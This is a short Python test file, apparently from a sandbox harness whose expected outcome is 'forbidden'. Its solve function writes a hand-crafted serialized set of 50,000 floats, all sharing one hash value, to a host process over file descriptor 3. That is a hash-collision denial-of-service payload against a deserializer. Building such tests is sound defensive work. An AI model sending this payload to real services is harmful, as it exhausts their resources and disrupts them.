# Tries: a set, written by hand, whose members share a hash, for whoever rebuilds it.
# Mode: calls
# Outcome: forbidden
import os
import struct


def solve(x, world):
    members = b"".join(b"d" + struct.pack("<d", float(i * ((1 << 61) - 1))) for i in range(50_000))
    body = b"(\x02\0\0\0s\x05\0\0\0value{" + struct.pack("<I", 50_000) + members
    os.write(3, struct.pack("<I", len(body)) + body)
    return 0
